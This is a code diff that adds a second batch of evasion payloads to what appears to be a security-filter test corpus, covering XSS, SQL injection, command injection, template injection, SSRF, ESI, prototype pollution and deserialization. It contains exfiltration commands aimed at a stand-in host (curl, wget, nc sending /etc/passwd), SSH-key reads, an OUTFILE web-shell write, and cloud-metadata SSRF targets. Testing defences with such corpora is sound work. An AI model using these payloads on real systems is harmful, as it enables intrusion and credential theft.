@@ -443,6 +443,132 @@ $%7Bjndi:ldap://evil.example/a%7D
 ${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/a}
 ${${upper:${::-j}}ndi:ldap://evil.example/a}""")
 
+# Second batch (written after the first fixes landed): more evasions per family.
+XSS += lines(r"""<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>
+<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
+<svg><script href=data:,alert(1) />
+<svg><script xlink:href=data:,alert(1)></script>
+<form action=javascript:alert(1)><input type=submit>
+<isindex action=javascript:alert(1) type=submit>
+<table background=javascript:alert(1)>
+<x contenteditable onblur=alert(1)>lose focus!
+<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)">
+<xss ontransitionend=alert(1) style=transition:outline 1s>
+<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-">
+"><img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
+jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert()//>\x3e
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>
+<img src="x" onerror="window.onerror=alert;throw 1">
+<svg><set onbegin=alert(1) attributename=x dur=1s>
+<marquee loop=1 width=0 onfinish=alert(1)>
+<body onhashchange=alert(1)><a href=#x>click
+<audio src onloadstart=alert(1)>
+<img srcset=x onerror=alert(1)>""")
+SQLI += lines(r"""1'/*!50000UNION*//*!50000SELECT*/1,2-- -
+1' UNION(SELECT(1),(2))-- -
+1'UNION/**/SELECT/**/1,2-- -
+-1' UNION SELECT 1,2 INTO OUTFILE '/var/www/x.php'-- -
+1' AND (SELECT SUBSTR(version(),1,1))='5
+admin'-- -
+admin'#
+admin')-- -
+1 OR 1=1
+1' OR 'a' LIKE 'a
+1' OR 2 BETWEEN 1 AND 3-- -
+1' OR 1 IN (1)-- -
+1' OR 'x' REGEXP 'x
+1' AND ELT(1,SLEEP(5))-- -
+1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--
+1' PROCEDURE ANALYSE()-- -
+1' AND EXP(~(SELECT * FROM (SELECT user())x))-- -
+' OR 1=1 OR ''='
+1' UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b-- -
+1 AND 0x31=0x31
+1/**//*!12345UNION SELECT*//**/1,2
+' or not 0-- -
+1 AND 1 NOT IN (2)
+1' AND NOT 1=2-- -
+1' AND 3 IS NOT NULL-- -""")
+SQLI += ["1'\nAND\n1=1-- -"]
+CMDI += lines(r""";{cat,$HOME/.ssh/id_rsa}
+;cat /etc/pass??
+;cat /e"t"c/pa"s"swd
+;$(tr '[A-Z]' '[a-z]'<<<"ID")
+;ls$IFS-la
+;IFS=_;cmd=cat_/etc/passwd;$cmd
+;ps${IFS}aux
+& set /a 1+1 &
+| ping -n 3 127.0.0.1
+;base32 /etc/passwd
+;xxd /etc/passwd
+$(</etc/passwd)
+;curl -d @/etc/passwd evil.example
+;wget --post-file=/etc/passwd evil.example
+;nc evil.example 4444 < /etc/passwd
+;echo test > /var/www/html/x.txt
+;touch /tmp/pwned
+|| sleep 5 ||
+;s\l\e\e\p 5
+;/bin/s?? -c id
+;awk 'BEGIN{system("id")}'
+;find / -name passwd -exec cat {} \;
+;php -r 'system("id");'
+;ruby -e 'exec "id"'
+;node -e 'require("child_process").exec("id")'
+;lua -e 'os.execute("id")'""")
+SSTI += lines(r"""{{ dump(app) }}
+{{ app.request.server.get('DOCUMENT_ROOT') }}
+{{ '/etc/passwd'|file_excerpt(1,30) }}
+{{ include('/etc/passwd') }}
+{{ source('/etc/passwd') }}
+{{ lipsum|attr('__globals__') }}
+{{ url_for.__globals__ }}
+{{ ().__class__ }}
+{{ x|attr(request.args.a) }}
+{% with a = request["application"]["\x5f\x5fglobals\x5f\x5f"] %}{{ a }}{% endwith %}
+${.data_model}
+<#list .data_model?keys as k>${k}</#list>
+${object?api.getClass()}
+$request.getSession()
+{{lookup (lookup this 'constructor') 'name'}}
+{{ .Request.Header }}
+${"a".join(dir())}
+{$smarty.template_object->smarty}
+{self::getStreamVariable("file:///etc/passwd")}
+{{ handler.settings }}
+{{ messages.storages.0.signer.key }}
+{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}""")
+SSRF += lines(r"""http://[0000:0000:0000:0000:0000:0000:0000:0001]/
+http://[::1%25eth0]/
+http://127.0.0.1:80\@evil.example/
+http://evil.example\@127.0.0.1/
+http://127.0.0.1%2523@evil.example/
+http://0x7f.0.0.1/
+http://2130706433:80/
+http://localhost.localdomain/
+http://localhost./
+http://LOCALHOST/admin
+http://127.0.0.1./
+https://metadata.google.internal./computeMetadata/v1/
+http://kubernetes.default.svc/api/v1/secrets
+http://10.0.0.1/admin
+http://192.168.1.1/
+http://172.16.0.1:8080/""")
+ESI += lines(r"""<esi:include src=http://evil.example/ alt=http://evil.example/ onerror=continue/>
+<ESI:INCLUDE SRC="http://evil.example/"/>
+<esi:include src="/etc/passwd"/>
+<!--esi $(HTTP_COOKIE) -->
+<esi:remove>x</esi:remove><esi:include src="http://evil.example/"/>""")
+PROTO += lines(r"""{"\u005f\u005fproto\u005f\u005f":{"isAdmin":true}}
+{"__proto__":{"polluted":true}}
+[{"__proto__":{"x":1}}]
+{"a":1,"__proto__":{"b":2}}
+{"prototype":{"constructor":1},"constructor":{"prototype":{"admin":1}}}""")
+PROTO_NAMES += ["__proto__%5Bpolluted%5D", "[__proto__][x]", "a.__proto__.b", "constructor%5Bprototype%5D%5Bx%5D"]
+DESER += lines(r"""Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJmaWxlIjtzOjExOiIvZXRjL3Bhc3N3ZCI7fQ==
+O:8:"stdClass":1:{s:4:"file";O:8:"stdClass":0:{}}
+a:1:{s:1:"x";O:12:"SplFileObject":1:{s:8:"filename";s:11:"/etc/passwd";}}""")
+
 FAMILIES = [("xxe", XXE), ("ssrf", SSRF), ("crlf", CRLF + CRLF_RAW), ("deserialization", DESER),
             ("prototype-pollution", PROTO), ("esi", ESI), ("xss", XSS), ("sqli", SQLI), ("cmdi", CMDI),
             ("ssti", SSTI), ("ldap-injection", LDAP), ("xpath", XPATH), ("java", LOG4J)]
